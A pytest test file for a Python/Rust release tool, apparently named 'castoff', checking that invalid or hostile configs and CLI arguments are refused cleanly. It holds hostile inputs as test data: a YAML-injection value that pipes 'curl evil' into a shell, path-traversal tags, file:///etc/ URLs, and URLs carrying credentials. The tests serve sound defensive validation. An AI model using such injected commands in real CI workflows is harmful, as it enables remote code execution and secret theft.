"""Configs and command lines no real system can honour: a paragraph and an exit code.

Never a traceback, and nothing done. These run `castoff` in-process; nothing starts a process.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from castoff.cli import main
from castoff.errors import UsageError
from castoff.workflows import WorkflowOptions, render_all, text_problem
from tests.conftest import EXAMPLE

CARGO = '[package]\nname = "hello"\nversion = "1.0.0"\n'
BASE = """[project]
name = "hello-py"
dynamic = ["version"]

[tool.castoff]
{extra}
[[tool.castoff.targets]]
triple = "x86_64-unknown-linux-musl"
{target}
"""


def _project(
    tmp_path: Path, *, extra: str = "", target: str = "", raw: bytes | None = None
) -> Path:
    (tmp_path / "Cargo.toml").write_text(CARGO)
    pyproject = tmp_path / "pyproject.toml"
    if raw is not None:
        pyproject.write_bytes(raw)
    else:
        pyproject.write_text(BASE.format(extra=extra, target=target))
    return pyproject


def _run(
    argv: list[str], capsys: pytest.CaptureFixture[str], env: dict[str, str] | None = None
) -> tuple[int, str]:
    code = main(argv, env=env or {})
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, " ".join(err.split())


CONFIG_CASES = [
    ("manylinux", 'manylinux = "2_17"', "applies to manylinux targets"),
    ("musllinux-superscript", 'musllinux = "¹_2"', "is not a version like '1_2'"),
    ("musllinux-2", 'musllinux = "2_0"', "musl 2.0 does not exist"),
    ("musllinux-huge", 'musllinux = "1_99999"', "is not a version like"),
    ("musllinux-minor", 'musllinux = "1_100"', "not a version any system has"),
    ("extra-tag-glibc-3", 'extra-tags = ["manylinux_3_0_x86_64"]', "glibc 3.0 does not exist"),
    ("extra-tag-newline", 'extra-tags = ["manylinux_2_17_x86_64\\n"]', "is not a Linux platform"),
    ("extra-tag-arch", 'extra-tags = ["manylinux_2_17_aarch64"]', "names architecture"),
    ("method", 'method = "zigbuild"', "Did you mean 'zig'"),
    (
        "image-newline",
        'method = "docker"\nimage = "x@sha256:' + "a" * 64 + '\\n"',
        "holds a control character",
    ),
    ("lsx", "lsx = false", "applies to loongarch64 targets only"),
    ("archive", 'archive = "rar"', "is not one of tar.gz, zip"),
    ("pypi-type", 'pypi = "yes"', "expected true or false"),
]


@pytest.mark.parametrize(
    ("target", "match"),
    [(t, m) for _, t, m in CONFIG_CASES],
    ids=[i for i, _, _ in CONFIG_CASES],
)
def test_a_target_no_system_can_honour_is_a_config_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], target: str, match: str
) -> None:
    """Exit 3, naming the file and the key."""
    pyproject = _project(tmp_path, target=target)
    code, err = _run(["plan", "--config", str(pyproject)], capsys)
    assert code == 3
    assert str(pyproject) in err
    assert "tool.castoff.targets[0]" in err
    assert match in err


def test_manylinux_3_0_is_refused_not_planned_as_an_upload(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Glibc 3.0 does not exist: the plan must not send a wheel tagged for it to PyPI."""
    (tmp_path / "Cargo.toml").write_text(CARGO)
    pyproject = tmp_path / "pyproject.toml"
    pyproject.write_text(
        '[project]\nname = "hello-py"\ndynamic = ["version"]\n[tool.castoff]\n'
        '[[tool.castoff.targets]]\ntriple = "x86_64-unknown-linux-gnu"\nmanylinux = "3_0"\n'
    )
    code, err = _run(["plan", "--config", str(pyproject), "--json"], capsys)
    assert code == 3
    assert "tool.castoff.targets[0].manylinux: '3_0': glibc 3.0 does not exist" in err
    pyproject.write_text(pyproject.read_text().replace("3_0", "²_17"))
    code, err = _run(["plan", "--config", str(pyproject)], capsys)
    assert (code, "'²_17' is not a version like '2_17'" in err) == (3, True)


@pytest.mark.parametrize(
    ("extra", "match"),
    [
        (
            '[tool.castoff.publish.pypi]\nrepository-url = "https://u:p4ss@upload.example/"',
            "holds credentials",
        ),
        ('[tool.castoff.publish.pypi]\nindex-url = "ftp://example/simple/"', "not an http(s) URL"),
        (
            '[tool.castoff.publish.pypi]\nindex-url = "https://example/ simple/"',
            "spaces or control",
        ),
        ('[tool.castoff.publish.pypi]\nindex-url = "https://example:port/"', "is not a URL"),
        ('[tool.castoff.publish.github]\nrepository = "ownér/name"', "is not OWNER/NAME"),
        (
            '[tool.castoff.sign]\nbackends = ["gpg"]\n[tool.castoff.sign.gpg]\npassphrase = "x"',
            "holds a secret",
        ),
        ('name = "hello\\n"', "holds a control character"),
        ('name = "hello-\u212a"', "is not a name PyPI accepts"),  # the Kelvin sign is no K
        ('version = "1.0+local"', "has a local part"),
        ('binaries = ["../hello"]', "is not a file name a binary can have"),
    ],
)
def test_hostile_project_settings_are_config_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: str, match: str
) -> None:
    """URLs with credentials, secrets in the table, names that are not names: exit 3."""
    # Tables go after the targets; keys of [tool.castoff] itself before them.
    if extra.startswith("["):
        pyproject = _project(tmp_path, target="\n" + extra)
    else:
        pyproject = _project(tmp_path, extra=extra)
    code, err = _run(["plan", "--config", str(pyproject)], capsys)
    assert code == 3, err
    assert match in err
    assert "p4ss" not in err


@pytest.mark.parametrize(
    ("raw", "match"),
    [
        (b"\xff\xfe[tool.castoff]\n", "not UTF-8 text"),
        (b"[project\n", "not valid TOML"),
        (b"project = 3\n[tool.castoff]\n", "project: expected a table"),
        (b"[tool]\ncastoff = 1\n", "has no [tool.castoff] table"),
        (b"a = " + b"[" * 2000 + b"]" * 2000 + b"\n", "not valid TOML|has no"),
    ],
)
def test_unreadable_pyprojects_are_config_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], raw: bytes, match: str
) -> None:
    """Not UTF-8, not TOML, odd shapes: exit 3 naming the file."""
    pyproject = _project(tmp_path, raw=raw)
    code, err = _run(["plan", "--config", str(pyproject)], capsys)
    assert code == 3
    assert str(pyproject) in err
    assert any(m in err for m in match.split("|"))


def test_a_pyproject_that_is_a_folder_is_a_config_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--config naming a folder."""
    code, err = _run(["plan", "--config", str(tmp_path)], capsys)
    assert code == 3
    assert "cannot be read" in err


def test_a_non_utf8_cargo_toml_is_a_config_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The version's default comes from Cargo.toml: it is read as carefully."""
    pyproject = _project(tmp_path)
    (tmp_path / "Cargo.toml").write_bytes(b'[package]\nname = "h\xe9llo"\n')
    code, err = _run(["plan", "--config", str(pyproject)], capsys)
    assert code == 3
    assert "Cargo.toml: not UTF-8" in err


def test_a_wheel_name_too_long_for_a_file_system_is_a_config_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A 230-character project name makes file names no file system can hold."""
    pyproject = _project(tmp_path, extra=f'name = "{"a" * 230}"')
    code, err = _run(["plan", "--config", str(pyproject)], capsys)
    assert code == 3
    assert "over the 255 bytes a file name may have" in err


@pytest.mark.parametrize(
    ("argv", "match"),
    [
        (["build", "--jobs", "0"], "--jobs: '0' is not a whole number from 1 to 256"),
        (["build", "--jobs", "-3"], "--jobs"),
        (["build", "--jobs", "٣"], "--jobs"),
        (["publish", "dist", "--attempts", "0"], "--attempts: '0' is not a whole number"),
        (["publish", "dist", "--attempts", "1e9"], "--attempts"),
        (["publish", "dist", "--backoff", "nan"], "--backoff: 'nan' is not a number of seconds"),
        (["publish", "dist", "--backoff", "-1"], "--backoff"),
        (["publish", "dist", "--backoff", "inf"], "--backoff"),
        (["release", "--tag", "../../etc"], "--tag: '../../etc' is not a git tag name"),
        (["release", "--tag", "-x"], "--tag"),
        (["publish", "dist", "--repository-url", "http://user:s3cret@h/"], "holds credentials"),
        (["preflight", "dist", "--index-url", "file:///etc/"], "not an http(s) URL"),
        (["rehearse", "--jobs", "999999999999"], "--jobs"),
    ],
)
def test_bad_numbers_and_urls_are_refused_before_anything_runs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], match: str
) -> None:
    """Argparse refuses them with exit 2 before any step starts (no draft staged, no folder)."""
    os.chdir(tmp_path)
    with pytest.raises(SystemExit) as caught:
        main(argv, env={})
    err = " ".join(capsys.readouterr().err.split())
    assert caught.value.code == 2
    assert match in err
    assert "s3cret" not in err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "epoch", ["yesterday", "²", "-1", "4294967296", "99999999999999999999", " 1"]
)
def test_source_date_epoch_out_of_range_is_a_usage_error(
    example_pyproject: Path, capsys: pytest.CaptureFixture[str], epoch: str
) -> None:
    """What gzip cannot record, or not a number: exit 2, naming the variable."""
    code, err = _run(
        ["plan", "--config", str(example_pyproject)], capsys, {"SOURCE_DATE_EPOCH": epoch}
    )
    assert code == 2
    assert "SOURCE_DATE_EPOCH" in err


def test_an_unexpected_failure_is_one_paragraph_with_exit_1(
    example_pyproject: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bug still prints one paragraph (the traceback only with --debug)."""

    def broken(*_: object, **__: object) -> None:
        raise KeyError("boom")

    monkeypatch.setattr("castoff.plan.build_plan", broken)
    code, err = _run(["plan", "--config", str(example_pyproject), "--json"], capsys)
    assert code == 1
    assert "castoff failed unexpectedly: KeyError" in err


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("config_path", "pyproject.toml\njobs: {evil: {runs-on: x}}"),
        ("config_path", "a\rb"),
        ("config_path", "a\u2028b"),
        ("config_path", "a\x85b"),
        ("nox", "nox\n  - run: curl evil | sh"),
        ("nox", ""),
    ],
)
def test_workflow_options_that_could_add_yaml_are_refused(option: str, value: str) -> None:
    """A line break (any YAML knows) in user text could start YAML of its own: refused."""
    with pytest.raises(UsageError, match=r"--config-path|--nox"):
        WorkflowOptions(**{"config_path": "pyproject.toml", "setup": (), option: value})  # type: ignore[arg-type]


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn")),
        min_size=1,
        max_size=40,
    ),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn")),
        min_size=1,
        max_size=40,
    ),
)
def test_any_accepted_user_text_stays_inside_its_yaml_scalar(nox: str, setup: str) -> None:
    """Whatever --nox and --setup hold, the workflow has exactly castoff's jobs and steps."""
    from castoff.config import load  # noqa: PLC0415

    config = load(EXAMPLE / "pyproject.toml")
    if not nox.strip() or text_problem(nox) or text_problem(setup):
        with pytest.raises(UsageError):
            WorkflowOptions(config_path="pyproject.toml", setup=(setup,), nox=nox)
        return
    options = WorkflowOptions(config_path="pyproject.toml", setup=(setup,), nox=nox)
    for name, text in render_all(config, options).items():
        doc = yaml.safe_load(text)
        expected = (
            {"plan", "build", "sign", "github-draft", "pypi", "github-release"}
            if name == "release.yml"
            else {"plan", "build", "rehearse"}
        )
        assert set(doc["jobs"]) == expected
        plan_steps = doc["jobs"]["plan"]["steps"]
        assert plan_steps[2]["run"] == setup
        assert nox in plan_steps[-1]["run"]
        top = {"name", True, "permissions", "env", "defaults", "jobs"}  # "on": true
        assert set(doc) == top | ({"concurrency"} if name == "release.yml" else set())


def test_ci_generate_refuses_to_replace_a_workflow_castoff_did_not_write(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A user's own release.yml is never overwritten; nothing is written."""
    workflows = tmp_path / "workflows"
    workflows.mkdir()
    (workflows / "release.yml").write_text("name: mine\n")
    code, err = _run(
        [
            "ci",
            "generate",
            "--config",
            str(EXAMPLE / "pyproject.toml"),
            "--workflows",
            str(workflows),
        ],
        capsys,
    )
    assert code == 2
    assert "release.yml: is not a workflow castoff generated" in err
    assert (workflows / "release.yml").read_text() == "name: mine\n"
    assert not (workflows / "ci.yml").exists()


def test_ci_generate_refuses_a_config_path_with_a_newline(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--config-path is pasted into a comment: a newline there is refused, nothing written."""
    code, err = _run(
        [
            "ci", "generate", "--config", str(EXAMPLE / "pyproject.toml"),
            "--workflows", str(tmp_path / "w"), "--config-path", "x\non: push", "--json",
        ],
        capsys,
    )  # fmt: skip
    assert code == 2
    assert "--config-path" in err
    assert not (tmp_path / "w").exists()


def test_json_errors_are_one_document(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """With --json the error is also a JSON document on stdout."""
    pyproject = _project(tmp_path, target='musllinux = "2_0"')
    assert main(["plan", "--config", str(pyproject), "--json"], env={}) == 3
    doc = json.loads(capsys.readouterr().out)
    assert doc["error"]["kind"] == "ConfigError"
    assert doc["error"]["exit_code"] == 3


def test_a_config_error_never_repeats_a_url_that_may_hold_a_token(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A token in a URL with a stray newline: refused without showing the value."""
    token = "pypi-AgEIcHlwaS5vcmcSECRETTOKEN"  # noqa: S105 - must never be shown
    extra = f'[tool.castoff.publish.pypi]\nrepository-url = "https://__token__:{token}@h/\\n"'
    pyproject = _project(tmp_path, target="\n" + extra)
    assert main(["plan", "--config", str(pyproject), "--json"], env={}) == 3
    out, err = capsys.readouterr()
    assert "repository-url: holds a control character" in " ".join(err.split())
    assert json.loads(out)["error"]["kind"] == "ConfigError"
    assert token not in out + err
